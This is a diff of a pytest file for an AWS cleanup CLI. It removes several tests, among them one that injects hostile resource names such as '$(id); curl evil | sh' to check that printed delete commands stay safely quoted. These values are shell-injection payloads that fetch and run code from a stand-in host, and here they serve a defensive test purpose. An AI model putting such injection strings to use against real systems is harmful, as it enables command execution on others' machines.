@@ -5,18 +5,16 @@ from __future__ import annotations
 import io
 import json
 import re
-import shlex
 from types import SimpleNamespace
 
 import pytest
-from small_stacks import ACCOUNT
+from small_stacks import ACCOUNT, DEPLOYED
 
 from tandem.cli import program
 from tandem.declarations import names
 from tandem.errors import INTERRUPT_EXIT_CODE
 from tandem.ops.faults import AccessDeniedError
 from tandem.ops.leftovers import SEARCHES
-from tandem.shell_command import clean_text
 
 pytestmark = pytest.mark.proof
 
@@ -134,55 +132,6 @@ def test_an_orphan_makes_it_end_with_1_and_its_command(small, run):
     assert re.search(r"ECR repository tandem-\S+: ORPHAN; aws ecr delete-repository", done.out)
 
 
-HOSTILE = ("$(id); curl evil | sh", "it's `id`", 'a "b"', "x\ncurl evil", "x\x1b[2J && id #")
-
-
-@pytest.mark.parametrize("text", HOSTILE)
-def test_a_strangers_name_is_one_word_of_the_command_that_removes_it(small, run, text):
-    one = small()
-    alarm = f"{one.name}-{text}"
-    budget = f"tandem-{one.name}-{text}"
-    one.client("cloudwatch").put_metric_alarm(
-        AlarmName=alarm,
-        Namespace=f"Tandem/{one.name}",
-        MetricName="m",
-        Statistic="Sum",
-        Period=60,
-        EvaluationPeriods=1,
-        Threshold=1,
-        ComparisonOperator="GreaterThanThreshold",
-    )
-    one.client("budgets").create_budget(
-        AccountId=ACCOUNT,
-        Budget={
-            "BudgetName": budget,
-            "BudgetType": "COST",
-            "TimeUnit": "MONTHLY",
-            "BudgetLimit": {"Amount": "1", "Unit": "USD"},
-        },
-    )
-
-    said = run(one).out
-
-    commands = [
-        shlex.split(line.partition(": ORPHAN; ")[2])
-        for line in said.splitlines()
-        if ": ORPHAN; " in line
-    ]
-    assert ["aws", "cloudwatch", "delete-alarms", "--alarm-names", clean_text(alarm)] in commands
-    assert [
-        "aws",
-        "budgets",
-        "delete-budget",
-        "--account-id",
-        ACCOUNT,
-        "--budget-name",
-        clean_text(budget),
-    ] in commands
-    assert len(commands) == 2
-    assert said.replace("\n", "").isprintable()
-
-
 def test_a_document_has_all_of_it(small, run):
     one = small().deploy()
 
@@ -194,7 +143,7 @@ def test_a_document_has_all_of_it(small, run):
         ACCOUNT,
         0,
     )
-    assert len(document["deleted"]) == 7
+    assert len(document["deleted"]) == len(DEPLOYED) - 1
     assert {entry["kind"] for entry in document["kept"]} == {
         "KMS key",
         "bucket",
@@ -202,13 +151,6 @@ def test_a_document_has_all_of_it(small, run):
         "stack",
     }
     assert (document["orphans"], document["unsearched"]) == ([], {})
-
-
-def test_a_refusal_is_a_document_too(small, run):
-    one = small().deploy(("Artifacts", "Network"))
-    document = json.loads(run(one, "--json").out)
-    assert document["exit_code"] == 2
-    assert set(document["error"]) == {"problem", "where", "change"}
 
 
 def test_another_accounts_credentials_are_refused_before_anything_is_asked(small, run):
@@ -233,18 +175,6 @@ def test_an_interrupt_says_that_the_same_command_goes_on(small, run, monkeypatch
 
     assert done.code == INTERRUPT_EXIT_CODE
     assert "the same command goes on from there" in done.err
-
-
-def test_an_environment_that_nobody_declared_is_refused(small, run):
-    one = small()
-    (one.folder / "environments" / f"{one.name}.yaml").rename(
-        one.folder / "environments" / "other.yaml"
-    )
-
-    done = run(one)
-
-    assert done.code == 2
-    assert "no such file" in done.err
 
 
 def test_an_environment_that_the_rules_refuse_today_may_still_be_taken_down(small, run):
